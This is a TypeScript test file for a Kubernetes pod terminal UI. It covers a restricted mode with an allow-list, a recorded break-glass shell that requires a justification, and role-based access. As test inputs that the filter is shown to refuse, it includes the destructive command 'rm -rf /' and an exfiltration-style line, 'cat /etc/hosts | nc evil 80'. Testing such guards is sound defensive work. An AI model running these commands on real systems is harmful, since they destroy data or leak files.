import { Route, Routes } from 'react-router-dom';
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { setupServer } from 'msw/node';
import {
  fakeTerminalBackend,
  PG,
  recordRequests,
  SocketRecord,
} from '../__testUtils__/fakeBackend';
import { typeInto } from '../__testUtils__/HeadlessScreen';
import { paymentGateway, renderTerminal } from '../__testUtils__/render';
import { EntityTerminalContent } from './EntityTerminalContent';

const server = setupServer();
beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterEach(() => server.resetHandlers());
afterAll(() => server.close());

const UP = '\x1b[A';

function renderTab(
  role: 'pete' | 'paula' | 'oscar' | 'amy' | 'gary',
  entity = paymentGateway,
) {
  return renderTerminal(
    <Routes>
      <Route path="/terminal/*" element={<EntityTerminalContent />} />
    </Routes>,
    { role, entity, routeEntries: ['/terminal'] },
  );
}

async function terminalText(label = 'Terminal') {
  return (await screen.findByRole('log', { name: label })).textContent ?? '';
}

async function waitForTerminal(text: string | RegExp, label = 'Terminal') {
  await waitFor(async () => {
    const content = await terminalText(label);
    if (typeof text === 'string') expect(content).toContain(text);
    else expect(content).toMatch(text);
  });
}

describe('EntityTerminalContent: restricted mode', () => {
  it('lets a developer pick a pod, run commands and see a refusal with its rule, without a break-glass button', async () => {
    const backend = fakeTerminalBackend();
    server.use(...backend.handlers);
    const { asked } = renderTab('pete');

    // The first running, ready pod and its first container are chosen.
    const pod = await screen.findByLabelText('Pod');
    expect(pod).toHaveValue('payment-gateway-7d9f-abcde');
    expect(screen.getByLabelText('Container')).toHaveValue('app');
    expect(
      within(screen.getByLabelText('Container')).getByText(
        /Ephemeral debug container/,
      ),
    ).toBeInTheDocument();

    // The hint of what is allowed is visible.
    const allowed = await screen.findByRole('list', {
      name: 'Allowed commands',
    });
    expect(within(allowed).getByText('ls [-la] <path>')).toBeInTheDocument();
    expect(
      screen.getByText('No pipes, redirections or chaining.'),
    ).toBeInTheDocument();

    // pete may not open a shell: no button at all.
    await waitFor(() =>
      expect(asked).toContainEqual({ name: 'terminal.shell', resourceRef: PG }),
    );
    expect(
      screen.queryByRole('button', { name: /Break-glass shell/ }),
    ).not.toBeInTheDocument();

    fireEvent.click(screen.getByRole('button', { name: 'Open terminal' }));
    await waitForTerminal('payment-gateway-7d9f-abcde:app $');
    expect(screen.getByLabelText('Connection: connected')).toBeInTheDocument();
    const [socket] = backend.sockets;
    expect(Object.fromEntries(socket.url.searchParams)).toMatchObject({
      entityRef: PG,
      pod: 'payment-gateway-7d9f-abcde',
      container: 'app',
      mode: 'restricted',
    });

    // Typed locally, with a typo fixed; only the whole line is sent.
    typeInto('Terminal', 'lx');
    typeInto('Terminal', '\x7f');
    typeInto('Terminal', 's -la');
    await waitForTerminal('$ ls -la');
    expect(socket.received.filter(m => m.type === 'line')).toEqual([]);
    typeInto('Terminal', '\r');
    await waitForTerminal('ran: ls -la');
    expect(socket.received).toContainEqual({ type: 'line', line: 'ls -la' });

    typeInto('Terminal', 'rm -rf /\r');
    await waitForTerminal(
      "✗ Not allowed (binary-not-allowed:rm): rm is not on this service's allow-list.",
    );
    const refusal = screen.getByRole('alert', { name: 'Refused command' });
    expect(refusal).toHaveTextContent('Not allowed:rm -rf /');
    expect(refusal).toHaveTextContent('refused by rule binary-not-allowed:rm.');

    // The prompt is back, and Up brings the last line back.
    typeInto('Terminal', UP);
    await waitFor(async () =>
      expect((await terminalText()).split('\n').at(-1)).toBe(
        'payment-gateway-7d9f-abcde:app $ rm -rf /',
      ),
    );
  });

  it('interrupts a running command with Ctrl-C and reports a non-zero exit', async () => {
    let socketRef: SocketRecord | undefined;
    const backend = fakeTerminalBackend({
      onConnect: socket => {
        socketRef = socket;
        socket.send({
          type: 'ready',
          sessionId: 'ses-7',
          mode: 'restricted',
          recording: false,
        });
      },
    });
    server.use(...backend.handlers);
    renderTab('pete');
    fireEvent.click(
      await screen.findByRole('button', { name: 'Open terminal' }),
    );
    await waitForTerminal('Restricted session ses-7');
    typeInto('Terminal', 'top -b\r');
    await waitFor(() =>
      expect(socketRef!.received).toContainEqual({
        type: 'line',
        line: 'top -b',
      }),
    );
    socketRef!.send({
      type: 'decision',
      decision: { allowed: true, rule: 'allowed:top', message: '' },
    });
    socketRef!.send({ type: 'output', data: 'top - 10:00:01 up 1 day' });
    await waitForTerminal('top - 10:00:01 up 1 day');
    typeInto('Terminal', '\x03');
    await waitFor(() =>
      expect(socketRef!.received).toContainEqual({
        type: 'stdin',
        data: '\u0003',
      }),
    );
    socketRef!.send({ type: 'exit', code: 130, durationMs: 2000 });
    await waitForTerminal(
      /up 1 day\n\[exit code 130\]\npayment-gateway-7d9f-abcde:app \$$/,
    );
  });

  it('shows why a session closed and reconnects on request', async () => {
    let count = 0;
    const backend = fakeTerminalBackend({
      onConnect: socket => {
        count++;
        socket.send({
          type: 'ready',
          sessionId: `ses-${count}`,
          mode: 'restricted',
          recording: false,
        });
        if (count === 1) {
          socket.send({
            type: 'notice',
            level: 'warning',
            message: 'Idle: this session closes in 60 s',
          });
        }
      },
    });
    server.use(...backend.handlers);
    renderTab('pete');
    fireEvent.click(
      await screen.findByRole('button', { name: 'Open terminal' }),
    );
    expect(
      await screen.findByText('Idle: this session closes in 60 s'),
    ).toBeInTheDocument();
    backend.sockets[0].send({ type: 'closed', reason: 'idle-timeout' });
    setTimeout(() => backend.sockets[0].close(4408), 5);

    expect(
      await screen.findByText(
        'The session was closed after being idle too long.',
      ),
    ).toBeInTheDocument();
    await waitForTerminal(
      '[The session was closed after being idle too long.]',
    );
    expect(screen.getByLabelText('Connection: closed')).toBeInTheDocument();
    // Typing into a closed session sends nothing.
    typeInto('Terminal', 'ls\r');

    fireEvent.click(screen.getByRole('button', { name: 'Reconnect' }));
    await waitForTerminal('Restricted session ses-2');
    expect(backend.sockets).toHaveLength(2);
    expect(backend.sockets[0].received.filter(m => m.type === 'line')).toEqual(
      [],
    );
  });

  it('opens an ephemeral debug container when chosen', async () => {
    const backend = fakeTerminalBackend();
    server.use(...backend.handlers);
    renderTab('pete');
    const container = await screen.findByLabelText('Container');
    fireEvent.change(container, { target: { value: '__debug__' } });
    fireEvent.click(screen.getByRole('button', { name: 'Open terminal' }));
    await waitFor(() => expect(backend.sockets).toHaveLength(1));
    expect(
      Object.fromEntries(backend.sockets[0].url.searchParams),
    ).toMatchObject({
      container: 'app',
      debug: 'true',
    });
    expect(
      await screen.findByText(/debug container next to app/),
    ).toBeInTheDocument();
  });

  it('dry-checks a command line from the hint panel', async () => {
    server.use(...fakeTerminalBackend().handlers);
    renderTab('pete');
    const input = await screen.findByLabelText('Check a command');
    fireEvent.change(input, {
      target: { value: 'cat /etc/hosts | nc evil 80' },
    });
    fireEvent.click(screen.getByRole('button', { name: 'Check' }));
    expect(await screen.findByText(/refused by rule/)).toHaveTextContent(
      'refused by rule no-pipes. Pipes, redirections and chaining are not allowed.',
    );
  });
});

describe('EntityTerminalContent: break-glass shell', () => {
  it('asks for a justification, then shows the recording badge and the time box while keystrokes go to the TTY', async () => {
    const expiresAt = new Date(Date.now() + 15 * 60_000).toISOString();
    const backend = fakeTerminalBackend({
      onConnect: socket =>
        socket.send({
          type: 'ready',
          sessionId: 'ses-shell',
          mode: 'shell',
          expiresAt,
          recording: true,
        }),
    });
    server.use(...backend.handlers);
    renderTab('oscar');

    fireEvent.click(
      await screen.findByRole('button', { name: /Break-glass shell/ }),
    );
    const dialog = await screen.findByRole('dialog', {
      name: 'Open a break-glass shell',
    });
    expect(dialog).toHaveTextContent('recorded and audited');
    const open = within(dialog).getByRole('button', { name: 'Open shell' });
    fireEvent.change(within(dialog).getByLabelText(/Justification/), {
      target: { value: 'INC-4711: lsof' }, // 15 characters: too short
    });
    expect(open).toBeDisabled();
    fireEvent.change(within(dialog).getByLabelText(/Justification/), {
      target: { value: 'INC-4711: gateway leaks file handles' },
    });
    fireEvent.click(open);

    expect(
      await screen.findByRole('status', { name: 'Recording' }),
    ).toBeInTheDocument();
    expect(
      screen.getByRole('timer', { name: 'Time left in the time box' }),
    ).toHaveTextContent(/Time box: 1[45]:\d\d left/);
    const [socket] = backend.sockets;
    expect(socket.url.searchParams.get('mode')).toBe('shell');
    // The justification is the first message, then the terminal's size.
    await waitFor(() =>
      expect(socket.received.slice(0, 2)).toEqual([
        { type: 'justification', text: 'INC-4711: gateway leaks file handles' },
        { type: 'resize', cols: 80, rows: 24 },
      ]),
    );

    socket.send({ type: 'output', data: '/ # ' });
    await waitForTerminal('/ #', 'Shell terminal');
    // Raw keystrokes, not lines.
    typeInto('Shell terminal', 'l');
    typeInto('Shell terminal', 's\r');
    await waitFor(() =>
      expect(socket.received.slice(2)).toEqual([
        { type: 'stdin', data: 'l' },
        { type: 'stdin', data: 's\r' },
      ]),
    );
    socket.send({ type: 'output', data: 'ls\r\nbin  etc\r\n/ # ' });
    await waitForTerminal('/ # ls\nbin  etc\n/ #', 'Shell terminal');

    // The platform team ends it: the user is told, and a new shell needs a new justification.
    socket.close(4410);
    expect(
      await screen.findByText(
        'The session was terminated by the platform team.',
      ),
    ).toBeInTheDocument();
    expect(
      screen.queryByRole('status', { name: 'Recording' }),
    ).not.toBeInTheDocument();
    fireEvent.click(screen.getByRole('button', { name: 'Reconnect' }));
    expect(
      await screen.findByRole('dialog', { name: 'Open a break-glass shell' }),
    ).toBeInTheDocument();
  });

  it('ends the shell with "End session"', async () => {
    const backend = fakeTerminalBackend({
      onConnect: socket =>
        socket.send({
          type: 'ready',
          sessionId: 'ses-2',
          mode: 'shell',
          recording: true,
        }),
    });
    server.use(...backend.handlers);
    renderTab('paula');
    fireEvent.click(
      await screen.findByRole('button', { name: /Break-glass shell/ }),
    );
    fireEvent.change(screen.getByLabelText(/Justification/), {
      target: { value: 'CHG-12: rotate a stuck lock file' },
    });
    fireEvent.click(screen.getByRole('button', { name: 'Open shell' }));
    fireEvent.click(await screen.findByRole('button', { name: 'End session' }));
    expect(
      await screen.findByText('You closed the session.'),
    ).toBeInTheDocument();
    await waitFor(() =>
      expect(backend.sockets[0].received.at(-1)).toEqual({ type: 'close' }),
    );
  });
});

describe('EntityTerminalContent: who sees what', () => {
  it('tells an auditor they may not open a terminal, and asks the backend for no pods', async () => {
    const requests = recordRequests(server);
    renderTab('amy');
    expect(
      await screen.findByText('You may not open a terminal on this service'),
    ).toBeInTheDocument();
    expect(requests).toEqual([]);
    // …but may look at the sessions.
    expect(screen.getByRole('button', { name: 'Sessions' })).toHaveAttribute(
      'href',
      '/terminal/sessions',
    );
    expect(
      screen.queryByRole('button', { name: 'Open terminal' }),
    ).not.toBeInTheDocument();
  });

  it('explains the missing annotations', async () => {
    renderTab('pete', {
      ...paymentGateway,
      metadata: { name: 'payment-gateway' },
    });
    expect(await screen.findByText('Missing Annotation')).toBeInTheDocument();
    expect(screen.getAllByText(/fincloud\.io\/cluster/).length).toBeGreaterThan(
      0,
    );
  });
});
